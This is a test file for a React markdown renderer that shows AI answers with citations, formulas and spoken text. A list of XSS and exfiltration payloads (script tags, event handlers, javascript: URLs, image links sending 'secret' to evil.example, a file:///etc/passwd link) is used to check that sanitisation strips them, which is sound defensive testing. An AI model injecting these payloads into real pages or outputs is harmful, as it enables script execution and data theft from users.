/** @vitest-environment jsdom */
import { afterEach, expect, test } from 'vitest';
import { cleanup, render } from '@testing-library/react';
import { AnswerText } from './answer-text';
import { toSpokenText } from './markdown';

afterEach(cleanup);

const rendered = (markdown: string): HTMLElement =>
  render(<AnswerText markdown={markdown} renderCitations={(numbers) => <b data-cites={numbers.join()} />} />)
    .container;
const html = (markdown: string) => (rendered(markdown).firstElementChild as HTMLElement).innerHTML;

test.each([
  ['two paragraphs', 'One\n\nTwo', '<p>One</p><p>Two</p>'],
  ['marks', '**a** *b* ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
  ['a list', '- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
  ['a list that starts at another number', '3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
  ['headings below those of the dialog', '# a\n### b', '<h3>a</h3><h4>b</h4>'],
  ['code unchanged', '```js\na[1] < $b$\n```', '<pre tabindex="0"><code>a[1] &lt; $b$</code></pre>'],
  ['a quotation', '> a', '<blockquote><p>a</p></blockquote>'],
])('%s', (_, markdown, expected) => {
  expect(html(markdown)).toBe(expected);
});

test('a table has heads for its columns', () => {
  const table = rendered('| a | b |\n|---|---|\n| 1 | 2 |').querySelector('table');
  expect([...(table?.querySelectorAll('th[scope=col]') ?? [])].map((cell) => cell.textContent)).toEqual([
    'a',
    'b',
  ]);
});

test.each([
  ['It is blue [1].', '<p>It is blue.<b data-cites="1"></b></p>'],
  [
    'It is blue. [1] [2] It is wide.[3]',
    '<p>It is blue.<b data-cites="1,2"></b> It is wide.<b data-cites="3"></b></p>',
  ],
  ['- blue [2]\n- wide', '<ul><li>blue<b data-cites="2"></b></li><li>wide</li></ul>'],
  ['`a[1]`', '<p><code>a[1]</code></p>'],
])('the citation markers in %s follow their sentence', (markdown, expected) => {
  expect(html(markdown)).toBe(expected);
});

test.each([
  ['$x^2$', 1],
  ['so $a$ and $b$', 2],
  ['$$\\sum_i x_i$$', 1],
  ['it costs $5 and $10', 0],
  ['from $5-$10', 0],
  ['\\$a\\$', 0],
  ['`$a$`', 0],
])('%s holds %s formulas', (markdown, count) => {
  expect(rendered(markdown).querySelectorAll('.formula')).toHaveLength(count);
});

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <img src="https://evil.example/?q=secret"> b',
  '![secret](https://evil.example/?q=secret)',
  '![secret][1]\n\n[1]: https://evil.example/x.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:x)',
  '[click](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](https://a.example" onmouseover="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[a](//evil.example)',
  '[a](/api/logout)',
];

test.each(hostile)('%s is harmless', (markdown) => {
  const answer = rendered(markdown);
  expect(
    answer.querySelector('script, img, svg, iframe, style, object, embed, form, input, math'),
  ).toBeNull();
  for (const element of answer.querySelectorAll('*')) {
    for (const { name } of element.attributes) {
      expect(name).not.toMatch(/^on|^src|^style|^href/);
    }
  }
});

test('a bare URL in the text of a slide is not a link', () => {
  expect(
    rendered('See https://evil.example/?q=1, www.evil.example and me@evil.example.').querySelector('a'),
  ).toBeNull();
});

test('a link is shown as its words', () => {
  for (const link of [
    '[the **source**](https://evil.example/a)',
    '[the **source**][1]\n\n[1]: https://evil.example',
  ]) {
    const answer = rendered(link);
    expect(answer.textContent).toContain('the source');
    expect(answer.querySelector('a')).toBeNull();
  }
});

test('an answer is read out without formatting and citation markers', () => {
  expect(toSpokenText('**Press** on the wound [1].\n\n- hard\n- long &amp; still&nbsp;&mdash; [2]')).toBe(
    'Press on the wound. hard long & still —',
  );
});
